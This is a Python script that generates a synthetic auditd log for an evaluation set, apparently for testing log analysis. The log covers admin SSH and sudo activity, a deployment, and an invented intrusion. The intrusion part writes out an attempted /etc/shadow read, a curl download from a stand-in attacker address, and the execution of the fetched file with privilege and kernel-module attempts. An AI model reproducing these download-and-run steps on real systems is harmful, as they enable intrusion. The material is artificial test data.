#!/usr/bin/env python3
"""Generate eval/samples/auditd.log: a synthetic Linux audit log as auditd writes it.

One morning on an invented web server: administrators log in over SSH and use sudo, a
deployment runs, audit rules watch identity files, executions, module loads and outbound
connections, and an intruder who got a shell as www-data probes /etc/shadow, fetches a tool,
makes it executable, runs it and tries to load a kernel module.

The format is /var/log/audit/audit.log with the default `log_format = RAW` and
`name_format = NONE`: one record per line, `type=<RECORD> msg=audit(<epoch>.<ms>:<serial>): <pairs>`;
the records of one event share the serial and end with EOE. System calls are numbered for
x86_64 (`arch=c000003e`). Strings with spaces or special characters are hex-encoded as auditd
encodes them (`proctitle=`, `cmd=`, `name=`).

Every user, host, path and address is invented; addresses come from the documentation ranges
(RFC 5737). Deterministic (fixed seed):

    python3 eval/samples/make_auditd_log.py          # writes eval/samples/auditd.log
"""

import argparse
import os
import random

SEED = 1977
START = 1741766400  # 2025-03-12T08:00:00Z
ADMIN_IP = "192.0.2.44"
ATTACKER_IP = "203.0.113.66"
X86_64 = "c000003e"

SYSCALLS = {"openat": 257, "execve": 59, "unlinkat": 263, "renameat2": 316, "fchmodat": 268,
            "connect": 42, "finit_module": 313, "setuid": 105, "mkdir": 83}

USERS = {"root": 0, "alice": 1000, "bob": 1001, "deploy": 1002, "www-data": 33}


def hexs(s):
    return s.encode().hex().upper()


def name_value(s):
    """auditd writes a name quoted, or hex-encoded when it holds a space or a quote."""
    if any(c in s for c in ' "\'') or any(ord(c) < 0x21 or ord(c) > 0x7e for c in s):
        return hexs(s)
    return f'"{s}"'


class Log:
    def __init__(self, rng):
        self.rng = rng
        self.t = START
        self.ms = 0
        self.serial = 4100
        self.pid = 2300
        self.lines = []

    def tick(self, lo=1, hi=40):
        self.t += self.rng.randint(lo, hi)

    def stamp(self):
        # Time only moves forward: a few milliseconds between the records of a burst.
        self.ms += self.rng.randint(1, 150)
        self.t += self.ms // 1000
        self.ms %= 1000
        self.serial += self.rng.randint(1, 9)
        return f"audit({self.t}.{self.ms:03d}:{self.serial})"

    def next_pid(self):
        self.pid += self.rng.randint(1, 60)
        return self.pid

    def record(self, kind, stamp, body):
        self.lines.append(f"type={kind} msg={stamp}: {body}")

    # --- user-space records (PAM, login, account management): one record, no EOE
    def user(self, kind, pid, uid, auid, ses, msg):
        stamp = self.stamp()
        subj = "system_u:system_r:sshd_t:s0-s0:c0.c1023"
        self.record(kind, stamp, f"pid={pid} uid={uid} auid={auid} ses={ses} subj={subj} msg='{msg}'")

    def pam(self, kind, op, pid, acct, ses, addr, res, auid=4294967295, exe="/usr/sbin/sshd",
            terminal="ssh", grantors="pam_unix"):
        host = addr if addr != "?" else "?"
        msg = (f'op={op} grantors={grantors if res == "success" else "?"} acct="{acct}" '
               f'exe="{exe}" hostname={host} addr={addr} terminal={terminal} res={res}')
        self.user(kind, pid, 0, auid, ses, msg)

    # --- a system call with its auxiliary records
    def syscall(self, call, user, pid, ppid, comm, exe, key, paths=(), cwd="/", success=True,
                exit_code=0, execve=None, sockaddr=None, proctitle=None, tty="(none)", ses=4294967295,
                auid=None):
        stamp = self.stamp()
        uid = USERS[user]
        auid = uid if auid is None else auid
        items = len(paths)
        self.record("SYSCALL", stamp,
                    f"arch={X86_64} syscall={SYSCALLS[call]} success={'yes' if success else 'no'} "
                    f"exit={exit_code} a0={self.rng.randint(0x1000, 0xffff):x} a1={self.rng.randint(0x1000, 0xffff):x} "
                    f"a2={self.rng.randint(0, 0x1ff):x} a3=0 items={items} ppid={ppid} pid={pid} auid={auid} "
                    f"uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} "
                    f'tty={tty} ses={ses} comm="{comm}" exe="{exe}" key="{key}"')
        if execve:
            args = " ".join(f"a{i}={name_value(a)}" for i, a in enumerate(execve))
            self.record("EXECVE", stamp, f"argc={len(execve)} {args}")
        if sockaddr:
            self.record("SOCKADDR", stamp, f"saddr={sockaddr}")
        if paths:
            self.record("CWD", stamp, f'cwd="{cwd}"')
        for i, (name, inode, mode, owner, nametype) in enumerate(paths):
            if inode is None:
                self.record("PATH", stamp, f"item={i} name={name_value(name)} nametype={nametype} "
                                           "cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0")
                continue
            o = USERS[owner]
            self.record("PATH", stamp,
                        f"item={i} name={name_value(name)} inode={inode} dev=08:01 mode={mode} ouid={o} "
                        f"ogid={o} rdev=00:00 nametype={nametype} cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0")
        title = proctitle or (execve and "\0".join(execve)) or comm
        self.record("PROCTITLE", stamp, f"proctitle={hexs(title)}")
        self.record("EOE", stamp, "")


def ssh_login(log, user, addr, ses, ok=True):
    rng = log.rng
    pid = log.next_pid()
    if not ok:
        log.pam("USER_AUTH", "PAM:authentication", pid, user, 4294967295, addr, "failed")
        log.tick(1, 3)
        log.pam("USER_LOGIN", "login", pid, user, 4294967295, addr, "failed")
        return
    log.pam("USER_AUTH", "PAM:authentication", pid, user, 4294967295, addr, "success")
    log.pam("USER_ACCT", "PAM:accounting", pid, user, 4294967295, addr, "success",
            grantors="pam_unix,pam_localuser")
    log.pam("CRED_ACQ", "PAM:setcred", pid, user, 4294967295, addr, "success")
    uid = USERS[user]
    log.record("LOGIN", log.stamp(),
               f"pid={pid} uid=0 subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 old-auid=4294967295 "
               f"auid={uid} tty=(none) old-ses=4294967295 ses={ses} res=1")
    log.pam("USER_START", "PAM:session_open", pid, user, ses, addr, "success", auid=uid,
            grantors="pam_selinux,pam_loginuid,pam_keyinit,pam_limits,pam_systemd,pam_unix")
    log.pam("CRED_REFR", "PAM:setcred", pid, user, ses, addr, "success", auid=uid)
    log.user("USER_LOGIN", pid, 0, uid, ses,
             f'op=login id={uid} exe="/usr/sbin/sshd" hostname={addr} addr={addr} '
             f'terminal=/dev/pts/{rng.randint(0, 3)} res=success')
    return pid


def ssh_logout(log, user, addr, ses, pid):
    uid = USERS[user]
    log.pam("USER_END", "PAM:session_close", pid, user, ses, addr, "success", auid=uid)
    log.pam("CRED_DISP", "PAM:setcred", pid, user, ses, addr, "success", auid=uid)
    log.user("USER_LOGOUT", pid, 0, uid, ses,
             f'op=logout id={uid} exe="/usr/sbin/sshd" hostname=? addr=? terminal=/dev/pts/0 res=success')


def sudo(log, user, ses, command, ok=True):
    pid = log.next_pid()
    uid = USERS[user]
    log.pam("USER_AUTH", "PAM:authentication", pid, user, ses, "?", "success" if ok else "failed",
            auid=uid, exe="/usr/bin/sudo", terminal="/dev/pts/0")
    if not ok:
        return
    log.pam("USER_ACCT", "PAM:accounting", pid, user, ses, "?", "success", auid=uid,
            exe="/usr/bin/sudo", terminal="/dev/pts/0")
    log.user("USER_CMD", pid, uid, uid, ses,
             f'cwd="/home/{user}" cmd={hexs(command)} exe="/usr/bin/sudo" terminal=pts/0 res=success')
    log.pam("CRED_REFR", "PAM:setcred", pid, "root", ses, "?", "success", auid=uid,
            exe="/usr/bin/sudo", terminal="/dev/pts/0")
    log.pam("USER_START", "PAM:session_open", pid, "root", ses, "?", "success", auid=uid,
            exe="/usr/bin/sudo", terminal="/dev/pts/0", grantors="pam_limits,pam_unix")
    return pid


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    here = os.path.dirname(os.path.abspath(__file__))
    ap.add_argument("-o", "--output", default=os.path.join(here, "auditd.log"))
    args = ap.parse_args()
    rng = random.Random(SEED)
    log = Log(rng)

    log.record("DAEMON_START", log.stamp(),
               "op=start ver=3.0.7 format=raw kernel=6.1.0-18-amd64 auid=4294967295 pid=611 "
               "uid=0 ses=4294967295 subj=unconfined res=success")
    log.tick()
    log.record("CONFIG_CHANGE", log.stamp(),
               'auid=4294967295 ses=4294967295 subj=unconfined op=add_rule key="identity" list=4 res=1')
    log.record("CONFIG_CHANGE", log.stamp(),
               'auid=4294967295 ses=4294967295 subj=unconfined op=add_rule key="exec" list=4 res=1')
    log.record("SERVICE_START", log.stamp(),
               "pid=1 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='unit=nginx "
               "comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'")

    # alice logs in, edits the nginx configuration with sudo, and runs a few commands
    log.tick(60, 300)
    ses = 7
    pid = ssh_login(log, "alice", ADMIN_IP, ses)
    cwd = "/home/alice"
    for cmd in (["ls", "-la"], ["id"], ["uname", "-a"]):
        log.tick(2, 30)
        p = log.next_pid()
        log.syscall("execve", "alice", p, pid + 2, cmd[0], f"/usr/bin/{cmd[0]}", "exec",
                    paths=[(f"/usr/bin/{cmd[0]}", rng.randint(130000, 139999), "0100755", "root", "NORMAL"),
                           ("/lib64/ld-linux-x86-64.so.2", 132001, "0100755", "root", "NORMAL")],
                    cwd=cwd, execve=cmd, tty="pts0", ses=ses)
    log.tick()
    spid = sudo(log, "alice", ses, "vim /etc/nginx/nginx.conf")
    log.tick(5, 60)
    log.syscall("openat", "root", spid + 1, spid, "vim", "/usr/bin/vim.basic", "nginx_conf",
                paths=[("/etc/nginx/", 262150, "040755", "root", "PARENT"),
                       ("/etc/nginx/nginx.conf", 262161, "0100644", "root", "NORMAL")],
                cwd=cwd, tty="pts0", ses=ses, auid=1000, exit_code=3)
    log.syscall("renameat2", "root", spid + 1, spid, "vim", "/usr/bin/vim.basic", "nginx_conf",
                paths=[("/etc/nginx/", 262150, "040755", "root", "PARENT"),
                       ("/etc/nginx/", 262150, "040755", "root", "PARENT"),
                       ("nginx.conf", 262161, "0100644", "root", "DELETE"),
                       ("nginx.conf~", 262161, "0100644", "root", "CREATE")],
                cwd="/etc/nginx", tty="pts0", ses=ses, auid=1000)
    log.tick(20, 90)
    ssh_logout(log, "alice", ADMIN_IP, ses, pid)

    # the nightly deployment user
    log.tick(60, 200)
    dpid = log.next_pid()
    for f in ("app.js", "vendor.js", "styles.css"):
        log.tick(1, 3)
        log.syscall("unlinkat", "deploy", dpid, dpid - 5, "rsync", "/usr/bin/rsync", "www_modify",
                    paths=[("/var/www/shop/static/", 524300, "040755", "deploy", "PARENT"),
                           (f"/var/www/shop/static/{f}", rng.randint(524301, 524399), "0100644", "deploy", "DELETE")],
                    cwd="/var/www/shop", ses=4294967295, auid=4294967295)
    log.syscall("mkdir", "deploy", dpid, dpid - 5, "rsync", "/usr/bin/rsync", "www_modify",
                paths=[("/var/www/shop/", 524290, "040755", "deploy", "PARENT"),
                       ("release 2025-03-12", 524400, "040755", "deploy", "CREATE")],
                cwd="/var/www/shop", ses=4294967295, auid=4294967295)

    # failed logins from the internet
    for user in ("admin", "root", "oracle", "root"):
        log.tick(1, 8)
        ssh_login(log, user, ATTACKER_IP, 4294967295, ok=False)

    # the intruder's shell as www-data (no login session: auid unset)
    log.tick(120, 400)
    wpid = log.next_pid()
    www = dict(auid=4294967295, ses=4294967295, cwd="/tmp")
    log.syscall("openat", "www-data", wpid, wpid - 1, "cat", "/usr/bin/cat", "identity",
                paths=[("/etc/shadow", 131117, "0100640", "root", "NORMAL")],
                success=False, exit_code=-13, execve=None, proctitle="cat\0/etc/shadow", **www)
    log.tick(2, 9)
    log.syscall("connect", "www-data", wpid + 3, wpid, "curl", "/usr/bin/curl", "egress",
                sockaddr="02000050CB00710A0000000000000000", proctitle=f"curl\0-so\0x\0http://{ATTACKER_IP}/x", **www)
    log.syscall("execve", "www-data", wpid + 3, wpid, "curl", "/usr/bin/curl", "exec",
                paths=[("/usr/bin/curl", 131500, "0100755", "root", "NORMAL"),
                       ("/lib64/ld-linux-x86-64.so.2", 132001, "0100755", "root", "NORMAL")],
                execve=["curl", "-so", "x", f"http://{ATTACKER_IP}/x"], **www)
    log.tick(1, 5)
    log.syscall("fchmodat", "www-data", wpid + 5, wpid, "chmod", "/usr/bin/chmod", "perm_mod",
                paths=[("x", 393220, "0100644", "www-data", "NORMAL")], **www)
    log.syscall("execve", "www-data", wpid + 7, wpid, "x", "/tmp/x", "exec",
                paths=[("./x", 393220, "0100755", "www-data", "NORMAL"),
                       ("/lib64/ld-linux-x86-64.so.2", 132001, "0100755", "root", "NORMAL")],
                execve=["./x", "--quiet"], **www)
    log.syscall("setuid", "www-data", wpid + 7, wpid, "x", "/tmp/x", "setid",
                success=False, exit_code=-1, **www)
    log.syscall("finit_module", "www-data", wpid + 7, wpid, "x", "/tmp/x", "modules",
                success=False, exit_code=-1, **www)
    log.syscall("openat", "www-data", wpid + 7, wpid, "x", "/tmp/x", "identity",
                paths=[("/etc/passwd", 131090, "0100644", "root", "NORMAL")], exit_code=4, **www)

    # bob logs in later: the passwordless key still works
    log.tick(300, 900)
    bpid = ssh_login(log, "bob", ADMIN_IP, 9)
    log.tick(5, 60)
    spid = sudo(log, "bob", 9, "systemctl restart nginx", ok=False)
    log.tick(5, 30)
    ssh_logout(log, "bob", ADMIN_IP, 9, bpid)
    log.record("SERVICE_STOP", log.stamp(),
               "pid=1 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='unit=nginx "
               "comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'")

    with open(args.output, "w", encoding="utf-8", newline="\n") as f:
        for line in log.lines:
            f.write(line.rstrip() + "\n")
    print(f"{len(log.lines)} lines -> {args.output}")


if __name__ == "__main__":
    main()
